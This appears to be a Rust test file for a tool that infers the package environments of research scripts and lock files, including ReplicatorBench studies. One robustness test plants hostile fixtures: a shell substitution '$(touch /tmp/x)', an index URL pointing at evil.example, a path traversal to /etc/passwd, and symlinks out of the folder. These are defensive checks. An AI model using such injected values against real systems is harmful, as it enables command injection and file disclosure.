use std::path::Path;

use serde_json::Value;

use super::need::shared;
use super::support::{Called, Place};

/// Writes files below a folder of the place.
fn tree(place: &Place, name: &str, files: &[(&str, &str)]) {
    for (path, text) in files {
        let file = place.path().join(name).join(path);
        std::fs::create_dir_all(file.parent().unwrap()).unwrap();
        std::fs::write(file, text).unwrap();
    }
}

fn json(called: &Called) -> Value {
    assert_eq!(called.status, 0, "{}", called.stderr);
    serde_json::from_str(&called.stdout).unwrap()
}

fn package<'a>(survey: &'a Value, name: &str) -> &'a Value {
    let all = survey["packages"].as_array().unwrap();
    let found = all.iter().find(|one| one["package"] == name);
    found.unwrap_or_else(|| panic!("{name} is not among {all:#?}"))
}

const SCRIPT: &str = "\
# 12 October 2020
import os, json
import pandas as pd
from sklearn.linear_model import LogisticRegression
import helper
import pandsa
import fieldnotes_tools
try:
    import cPickle as pickle
except ImportError:
    import pickle
";

#[test]
fn a_folder_is_told_on_a_terminal() {
    let place = Place::new();
    tree(
        &place,
        "study",
        &[
            ("analysis.py", SCRIPT),
            ("helper.py", "import numpy\n"),
            ("requirements.txt", "pandas==1.1.3\nscikit-learn>=0.23\n"),
            ("model.R", "library(lme4)\nlibrary(dpylr)\n"),
            (
                "log.txt",
                "R version 4.0.3 (2020-10-10)\n\nother attached packages:\n[1] lme4_1.1-25\n",
            ),
            (
                "prepare.do",
                "version 14\nuse \"a.dta\"\nreghdfe y x, absorb(id)\nmystery y\n",
            ),
            ("main.sps", "GET FILE='a.sav'.\nGLM a b.\n"),
        ],
    );
    let called = place.call(&["env", "study"]);
    assert_eq!(called.status, 0, "{}", called.stderr);
    insta::with_settings!({filters => vec![
        (r"20[0-9-]{8}: the day of this copy", "DAY: the day of this copy"),
        (r"not had on this machine\n(?:  .*\n)+", ""),
    ]}, {
        insta::assert_snapshot!("env", called.stdout);
    });
    let survey = json(&place.call(&["env", "study", "--json"]));
    assert_eq!(survey["format"], "reprise-env/1");
    // The log's R was the newest from 2020-10-10 on; the script's own day lies in that time.
    assert_eq!(survey["as_of"]["day"], "2020-10-12");
    assert_eq!(package(&survey, "pandas")["certainty"], "exact");
    assert_eq!(package(&survey, "pandas")["version"], "1.1.3");
    assert_eq!(package(&survey, "scikit-learn")["bounds"][0], ">=0.23");
    assert_eq!(package(&survey, "pandsa")["certainty"], "unknown");
    assert_eq!(package(&survey, "numpy")["certainty"], "by-date");
    let questions: Vec<&str> = (survey["questions"].as_array().unwrap().iter())
        .map(|one| one["name"].as_str().unwrap())
        .collect();
    assert_eq!(questions, ["fieldnotes_tools", "pandsa", "dpylr", "mystery"]);
}

#[test]
fn a_person_stands_above_all_evidence_and_is_told_what_contradicts() {
    let place = Place::new();
    tree(
        &place,
        "study",
        &[
            ("a.R", "groundhog.library('lme4', '2021-04-01')\n"),
            ("README.md", "Run with R 4.2.1.\n"),
            (
                "renv.lock",
                r#"{"R": {"Version": "3.6.3"}, "Packages": {"lme4": {"Version": "1.1-23", "Source": "Repository"}}}"#,
            ),
            (
                "log.out",
                "R version 4.0.5 (2021-03-31)\nother attached packages:\n[1] lme4_1.1-26\n",
            ),
        ],
    );
    let survey = json(&place.call(&["env", "study", "--as-of", "2019-05-05", "--json"]));
    assert_eq!(survey["as_of"]["instant"], "2019-05-05T23:59:59Z");
    assert_eq!(survey["as_of"]["from"], "told");
    let all = survey["contradictions"].to_string();
    for part in [
        "a.R, line 1: The script asks for packages of 2021-04-01. That is 697 days",
        "log.out, line 1: A session ran on R 4.0.5",
        "README.md, line 1: It names R 4.2.1. The chosen version is 3.6.3.",
        "log.out, line 3 has lme4 1.1-26; renv.lock, which weighs more or comes first, has 1.1-23.",
    ] {
        assert!(all.contains(part), "{part}\n{all}");
    }
    assert_eq!(package(&survey, "lme4")["version"], "1.1-23");
    let refused = place.call(&["env", "study", "--as-of", "2019"]);
    assert_eq!(refused.status, 2);
    let refused = place.call(&["env", "nowhere"]);
    assert_eq!(refused.status, 2);
    assert!(
        refused.stderr.contains("nowhere is no folder"),
        "{}",
        refused.stderr
    );
}

#[test]
fn hostile_folders_are_read_within_limits() {
    let place = Place::new();
    let deep = format!("{{\"Packages\": {}{}}}", "[".repeat(100_000), "]".repeat(100_000));
    tree(
        &place,
        "study",
        &[
            ("renv.lock", &deep),
            ("sub/uv.lock", &format!("a = {}", "[".repeat(100_000))),
            ("a.R", &format!("library(lme4)\n{}", "library(".repeat(20_000))),
            ("a.ipynb", "{\"cells\": 3}"),
            ("b.py", &format!("import numpy\n{}", "try:\n ".repeat(20_000))),
            (
                "requirements.txt",
                "x; import os\n--index-url http://evil.example\n$(touch /tmp/x)\n",
            ),
            ("gt/secret.py", "import secretpackage\n"),
            (".git/HEAD", "ref: ../../../../etc/passwd\n"),
            ("nul.py", "import a\0b\n"),
        ],
    );
    // A lock of 100 MB, most of it a hole.
    let large = std::fs::File::create(place.path().join("study/poetry.lock")).unwrap();
    large.set_len(100 << 20).unwrap();
    std::os::unix::fs::symlink("/etc", place.path().join("study/outside")).unwrap();
    std::os::unix::fs::symlink("loop", place.path().join("study/loop")).unwrap();
    let begun = std::time::Instant::now();
    let called = place.call(&["env", "study", "--json"]);
    assert!(begun.elapsed() < super::need::PATIENCE, "{:?}", begun.elapsed());
    let survey = json(&called);
    assert!(!called.stdout.contains("secretpackage"));
    let faults = survey["faults"].to_string();
    for part in [
        "poetry.lock\",\"problem\":\"it has 104857600 bytes",
        "\"renv.lock\",\"problem\":\"it is no such lock: invalid type",
        "sub/uv.lock",
        "a.ipynb\",\"problem\":\"it is no notebook",
        "line 2, `--index-url http://evil.example`, is not followed",
        "nul.py\",\"problem\":\"it is no text",
    ] {
        assert!(faults.contains(part), "{part}\n{faults}");
    }
    // Links that lead out, or round in a circle, are said; what is behind them is not read.
    for link in ["outside", "loop"] {
        assert!(
            faults.contains(&format!(
                "{link}\",\"problem\":\"it is a link that leads out of the folder, or nowhere"
            )),
            "{faults}"
        );
    }
    package(&survey, "lme4");
    package(&survey, "numpy");
}

#[test]
fn a_day_to_come_is_refused() {
    let place = Place::new();
    tree(&place, "study", &[("a.R", "library(lme4)\n")]);
    let refused = place.call(&["env", "study", "--as-of", "2099-01-01"]);
    assert_eq!(refused.status, 2);
    assert!(
        refused.stderr.contains("--as-of 2099-01-01 is a day to come"),
        "{}",
        refused.stderr
    );
    assert_eq!(place.call(&["env", "study", "--as-of", "2019-01-01"]).status, 0);
}

#[test]
fn projects_and_documents_are_evidence() {
    let place = Place::new();
    tree(
        &place,
        "python",
        &[
            ("a.py", "import pandas\n"),
            ("Dockerfile", "FROM python:3\n"),
            (
                "pyproject.toml",
                "[tool.poetry.dependencies]\npython = \">=3.7,<4\"\npandas = \">=1.1.0,<2\"\n",
            ),
            (
                "paper.qmd",
                "---\ndate: 4 March 2021\n---\n```{python}\nimport numpy\n```\n",
            ),
        ],
    );
    let survey = json(&place.call(&["env", "python", "--json"]));
    assert_eq!(survey["as_of"]["day"], "2021-03-04");
    assert_eq!(survey["interpreters"][0]["version"], "3.8");
    assert_eq!(package(&survey, "pandas")["bounds"][0], ">=1.1.0,<2");
    let evidence = survey["evidence"].to_string();
    assert!(
        evidence.contains("has the newest Python 3 of its day"),
        "{evidence}"
    );
    tree(
        &place,
        "r",
        &[
            (
                "a.R",
                "box::use(dplyr[filter])\nlibrarian::shelf(lme4)\ncheckpoint('2019-05-06', R.version = '3.5.3')\n",
            ),
            (
                "DESCRIPTION",
                "Type: Compendium\nPackage: paper\nImports: psych (>= 1.8)\n",
            ),
            ("b.sas", "proc means; run;\n"),
            ("c.jl", "using DataFrames\n"),
            ("sub/d.m", "x = 1;\n"),
            ("sub/e.m", "x = 2;\n"),
        ],
    );
    let survey = json(&place.call(&["env", "r", "--json"]));
    assert_eq!(survey["as_of"]["day"], "2019-05-06");
    assert_eq!(survey["interpreters"][0]["version"], "3.5.3");
    for name in ["dplyr", "lme4", "psych"] {
        package(&survey, name);
    }
    let told = survey["not_locked"].as_array().unwrap();
    assert_eq!(told.len(), 3, "{told:?}");
    assert!(
        told[2]
            .as_str()
            .unwrap()
            .starts_with("sub/d.m (and 1 more) is Matlab, of which nothing is read or locked"),
        "{told:?}"
    );
    assert!(
        place
            .call(&["env", "r"])
            .stdout
            .contains("not locked\n  b.sas is SAS")
    );
}

#[test]
fn packages_behind_a_false_marker_are_not_locked() {
    let place = Place::new();
    let project = "[project]\nname = \"x\"\ndependencies = [\"click\"]\n";
    let poetry = "[[package]]\nname = \"click\"\nversion = \"7.0\"\n[package.dependencies]\ncolorama = { version = \"*\", markers = \
                  \"platform_system == 'Windows'\" }\n[[package]]\nname = \"colorama\"\nversion = \"0.4\"\n[package.dependencies]\n\
                  ansi = \"*\"\n[[package]]\nname = \"ansi\"\nversion = \"1.0\"\n";
    tree(
        &place,
        "poetry",
        &[
            ("a.py", "# 2020-05-06\nimport click\n"),
            ("pyproject.toml", project),
            ("poetry.lock", poetry),
        ],
    );
    let uv = "[[package]]\nname = \"x\"\nversion = \"0\"\nsource = { virtual = \".\" }\ndependencies = [{ name = \"click\" }]\n\
              [[package]]\nname = \"click\"\nversion = \"7.0\"\ndependencies = [{ name = \"colorama\", marker = \"sys_platform == 'win32'\" }]\n\
              [[package]]\nname = \"colorama\"\nversion = \"0.4\"\ndependencies = [{ name = \"ansi\" }]\n[[package]]\nname = \"ansi\"\n\
              version = \"1.0\"\n";
    tree(
        &place,
        "uv",
        &[("a.py", "# 2020-05-06\nimport click\n"), ("uv.lock", uv)],
    );
    for folder in ["poetry", "uv"] {
        let survey = json(&place.call(&["env", folder, "--json"]));
        let names: Vec<&str> = (survey["packages"].as_array().unwrap().iter())
            .map(|one| one["package"].as_str().unwrap())
            .collect();
        assert_eq!(names, ["click"], "{folder}");
        let told = survey["left_out"].to_string();
        assert!(
            told.contains("ansi 1.0 is only needed by colorama, of which nothing is wanted here"),
            "{told}"
        );
    }
    // Without the project's own wishes, a package of Poetry's may be one of them.
    std::fs::remove_file(place.path().join("poetry/pyproject.toml")).unwrap();
    let survey = json(&place.call(&["env", "poetry", "--json"]));
    assert_eq!(survey["packages"].as_array().unwrap().len(), 3);
}

/// The scripts of ReplicatorBench's studies.
#[test]
fn published_scripts_tell_their_packages() {
    let Some(original) = shared("data/replicatorbench/original") else {
        return;
    };
    let needs = |study: &str| {
        let folder = original.join(study);
        let survey = json(&Place::new().call(&["env", folder.to_str().unwrap(), "--json"]));
        let packages = survey["packages"].as_array().unwrap().clone();
        let names = packages
            .iter()
            .map(|one| one["package"].as_str().unwrap().to_owned());
        names.collect::<Vec<_>>()
    };
    assert!(Path::new(&original).is_dir());
    assert_eq!(
        needs("1"),
        [
            "dplyr",
            "glue",
            "haven",
            "huxtable",
            "jtools",
            "lfe",
            "lubridate",
            "multcomp",
            "spatialreg",
            "spdep",
            "sphet",
            "tidyverse",
            "tigris"
        ]
    );
    assert_eq!(needs("4"), ["dplyr", "psych", "readr"]);
    assert_eq!(
        needs("7"),
        [
            "foreign",
            "panelAR",
            "prais",
            "readstata13",
            "reshape2",
            "tidyverse"
        ]
    );
}

/// The environments of ReplicatorBench's studies, as a table.
#[test]
fn published_studies_have_a_table() {
    let Some(original) = shared("data/replicatorbench/original") else {
        return;
    };
    let mut studies: Vec<u32> = std::fs::read_dir(&original)
        .unwrap()
        .filter_map(|entry| entry.unwrap().file_name().to_str()?.parse().ok())
        .collect();
    studies.sort_unstable();
    println!("| study | language | date | exact | by date | elsewhere | unknown | commands |");
    println!("|---|---|---|---|---|---|---|---|");
    let mut of_r = Vec::new();
    for study in studies {
        let folder = original.join(study.to_string());
        let survey = json(&Place::new().call(&["env", folder.to_str().unwrap(), "--json"]));
        let all = |key: &str| survey[key].as_array().unwrap().clone();
        let languages: Vec<String> = all("interpreters")
            .iter()
            .map(|one| one["language"].as_str().unwrap().to_owned())
            .collect();
        let is = |certainty: &str| {
            let packages = all("packages");
            packages
                .iter()
                .filter(|one| one["certainty"] == certainty)
                .count()
        };
        // The day of a copy says nothing of the analysis.
        let as_of = &survey["as_of"];
        let date = match as_of["from"].as_str() {
            None | Some("copy-day") => "not told",
            Some(_) => as_of["day"].as_str().unwrap(),
        };
        let (exact, by_date) = (is("exact"), is("by-date"));
        let (elsewhere, unknown) = (is("elsewhere"), is("unknown"));
        let commands = all("commands").len();
        println!(
            "| {study} | {} | {date} | {exact} | {by_date} | {elsewhere} | {unknown} | {commands} |",
            languages.join(", ")
        );
        assert_eq!(languages.len(), 1, "study {study}");
        if languages[0] == "r" {
            of_r.push((study, exact, by_date, elsewhere, unknown));
        } else {
            assert!(commands > 0, "study {study} has commands and none is told");
        }
    }
    let counted = [
        (1, 0, 13, 0, 0),
        (2, 0, 11, 1, 0),
        (4, 0, 3, 0, 0),
        (7, 0, 6, 0, 0),
        (11, 0, 5, 0, 0),
        (13, 0, 2, 0, 0),
    ];
    assert_eq!(of_r, counted);
}
